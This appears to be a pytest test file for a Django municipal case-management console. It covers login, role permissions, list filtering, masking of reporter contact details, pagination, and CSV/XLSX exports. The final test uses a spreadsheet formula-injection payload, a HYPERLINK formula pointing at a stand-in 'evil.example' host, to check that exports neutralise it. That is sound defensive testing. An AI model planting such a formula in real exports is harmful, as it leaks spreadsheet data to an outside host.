from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cityops.cases.models import Case, Status
from cityops.cases.services.payloads import File
from cityops.console.tests.conftest import EAST, jpeg

pytestmark = pytest.mark.django_db


def detail(case: Case) -> str:
    return reverse("console:case-detail", args=[case.pk])


def act(case: Case, action: str) -> str:
    return reverse("console:case-action", args=[case.pk, action])


def test_console_needs_sign_in(client, catalogue):
    response = client.get(reverse("console:home"))
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_home_shows_the_dispatcher_queue(login, personas, report):
    case = report()
    from cityops.cases.services import case_transition

    case_transition(case_id=case.pk, action="accept", actor=personas.intake_clerk)
    case_transition(
        case_id=case.pk, action="file", actor=personas.shift_lead, payload=File(condition_met=True)
    )
    page = login(personas.dispatcher).get(reverse("console:home")).content.decode()
    assert case.number in page
    page = login(personas.intake_clerk).get(reverse("console:home")).content.decode()
    assert case.number not in page


def test_list_filters_and_masks(login, personas, report):
    west = report(reporter_phone="13812345678", source="hotline", actor=personas.intake_clerk)
    east = report(point=EAST, description="井盖缺失")
    client = login(personas.dispatcher)
    page = client.get(reverse("console:case-list")).content.decode()
    assert west.number in page
    assert east.number in page
    page = client.get(reverse("console:case-list"), {"q": "井盖"}).content.decode()
    assert east.number in page
    assert west.number not in page
    page = client.get(reverse("console:case-list"), {"source": "hotline"}).content.decode()
    assert west.number in page
    assert east.number not in page
    page = client.get(reverse("console:case-list"), {"q": west.number}).content.decode()
    assert west.number in page
    assert east.number not in page
    assert "13812345678" not in page


def test_list_query_count_is_pinned(login, personas, report, django_assert_max_num_queries):
    for _ in range(5):
        report()
    client = login(personas.dispatcher)
    client.get(reverse("console:case-list"))
    # session, user, memberships, the page of cases (its ids, then its rows), 4 filter
    # dropdowns, notifications badge, saved filters, the bulk-dispatch unit dropdown, the
    # estates nav (2): constant whatever the number of rows (no query per row).
    with django_assert_max_num_queries(14):
        response = client.get(reverse("console:case-list"), {"sort": "deadline_at"})
    assert response.status_code == 200


def test_list_paginates(login, personas, report, settings):
    from cityops.console import forms

    first = report()
    second = report()
    old = forms.PAGE_SIZE
    try:
        import cityops.console.views as views

        views.PAGE_SIZE = 1  # type: ignore[attr-defined]
        client = login(personas.dispatcher)
        page1 = client.get(reverse("console:case-list")).content.decode()
        page2 = client.get(reverse("console:case-list"), {"page": 2}).content.decode()
    finally:
        views.PAGE_SIZE = old  # type: ignore[attr-defined]
    assert second.number in page1
    assert first.number not in page1
    assert first.number in page2
    assert 'rel="prev"' in page2


def test_exports_follow_the_filter(login, personas, report):
    west = report(reporter_name="张三丰", reporter_phone="13812345678", source="hotline",
                  actor=personas.intake_clerk)  # fmt: skip
    east = report(point=EAST)
    client = login(personas.dispatcher)
    response = client.get(reverse("console:case-export", args=["csv"]), {"source": "hotline"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    assert rows[1][0] == west.number
    assert "13812345678" not in text
    assert "张三丰" not in text
    response = client.get(reverse("console:case-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    numbers = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert numbers == {west.number, east.number}


def test_operator_b_gets_404_on_operator_a_case(login, personas, dispatched):
    case = dispatched()
    assert login(personas.operator_a).get(detail(case)).status_code == 200
    client = login(personas.operator_b)
    assert client.get(detail(case)).status_code == 404
    response = client.post(act(case, "handle"), {"note": "x", "photos": io.BytesIO(jpeg())})
    assert response.status_code == 404
    page = client.get(reverse("console:case-list")).content.decode()
    assert case.number not in page
    export = client.get(reverse("console:case-export", args=["csv"]))
    assert case.number not in b"".join(export.streaming_content).decode("utf-8-sig")


def test_detail_offers_exactly_the_role_actions(login, personas, dispatched):
    case = dispatched()
    page = login(personas.operator_a).get(detail(case)).content.decode()
    for action in ("handle", "request_return", "request_extension", "request_park"):
        assert f'id="action-{action}"' in page
    assert 'id="action-close"' not in page
    assert 'id="action-dispatch"' not in page
    page = login(personas.shift_lead).get(detail(case)).content.decode()
    assert 'id="action-void"' in page
    assert 'id="action-handle"' not in page


def test_full_flow_through_the_forms(login, personas, report):
    case = report()
    assert login(personas.intake_clerk).post(act(case, "accept"), {}).status_code == 302
    client = login(personas.shift_lead)
    response = client.post(act(case, "file"), {})
    assert response.status_code == 400  # the filing condition must be confirmed
    assert "errors" in response.content.decode()
    assert client.post(act(case, "file"), {"condition_met": "on"}).status_code == 302
    assert login(personas.dispatcher).post(act(case, "dispatch"), {}).status_code == 302
    client = login(personas.operator_a)
    response = client.post(act(case, "handle"), {"note": "已清理"})
    assert response.status_code == 400
    photo = io.BytesIO(jpeg("green"))
    photo.name = "after.jpg"
    assert client.post(act(case, "handle"), {"note": "已清理", "photos": photo}).status_code == 302
    photo = io.BytesIO(jpeg("blue"))
    photo.name = "check.jpg"
    assert login(personas.inspector).post(act(case, "verify"), {"photos": photo}).status_code == 302
    assert login(personas.shift_lead).post(act(case, "close"), {}).status_code == 302
    case.refresh_from_db()
    assert case.status == Status.CLOSED
    page = login(personas.dispatcher).get(detail(case)).content.decode()
    assert "结案" in page or "close" in page


def test_stale_version_is_a_409(login, personas, report):
    case = report()
    client = login(personas.intake_clerk)
    response = client.post(act(case, "accept"), {"expected_version": case.version + 5})
    assert response.status_code == 409


def test_forbidden_action_is_403_not_500(login, personas, report):
    case = report()
    response = login(personas.inspector).post(act(case, "accept"), {})
    assert response.status_code == 403


def test_english_validation_message(login, personas, report):
    case = report()
    client = login(personas.intake_clerk)
    client.cookies["django_language"] = "en"
    response = client.post(act(case, "reject"), {})
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()


def test_exports_neutralise_formulas(login, personas, report):
    case = report(description='=HYPERLINK("http://evil.example/?"&A1,"click")')
    client = login(personas.dispatcher)
    response = client.get(reverse("console:case-export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == case.number)
    assert row[-1] == "'" + case.description
    response = client.get(reverse("console:case-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.number)
    assert cells[-1].data_type == "s"
    assert cells[-1].value == "'" + case.description
